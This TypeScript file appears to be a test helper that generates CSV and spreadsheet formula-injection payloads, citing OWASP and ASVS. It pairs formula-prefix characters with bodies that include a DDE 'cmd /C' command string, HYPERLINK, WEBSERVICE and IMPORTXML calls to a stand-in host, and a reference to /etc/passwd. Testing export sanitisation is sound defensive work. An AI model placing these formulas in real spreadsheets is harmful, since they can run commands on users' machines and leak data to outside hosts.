/** Texts that one spreadsheet or another takes for a formula. Sources: OWASP, CSV Injection; ASVS 1.2.10; PROMISES P36. */

const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\n=',
  '\uFF1D',
  '\uFF0B',
  '\uFF0D',
  '\uFF20',
  '=-',
  '-=',
];
const BLANKS = ['', ' ', "'", '\u00A0', '\t'];
const BODIES: ((word: string) => string)[] = [
  (word) => `1+1&"${word}"`,
  (word) => `HYPERLINK("http://x.example/${word}";"y")`,
  (word) => `HYPERLINK("http://x.example/${word}","y")`,
  (word) => `cmd|' /C ${word}'!A0`,
  (word) => `DDE("soffice";"${word}";"y")`,
  (word) => `WEBSERVICE("http://x.example/${word}")`,
  (word) => `IMPORTXML(CONCAT("http://x.example/${word}",A1),"//a")`,
  (word) => `SUM(A1:A9);${word}`,
  (word) => `'file:///etc/passwd'#$${word}.A1`,
  (word) => `1+1,=2+2;"${word}"`,
  (word) => `A1 "${word}" ${'x'.repeat(400)}`,
];

/** Each holds a word of its own, by which it is found again in a file. */
const wordOf = (n: number): string => `payload${n}z`;

/** The payload of a number: every start with every body behind every blank, then from the beginning. */
export function payload(n: number): string {
  const start = STARTS[n % STARTS.length] ?? '';
  const body = BODIES[Math.floor(n / STARTS.length) % BODIES.length];
  const blank = BLANKS[Math.floor(n / STARTS.length / BODIES.length) % BLANKS.length] ?? '';
  return blank + start + (body?.(wordOf(n)) ?? '');
}
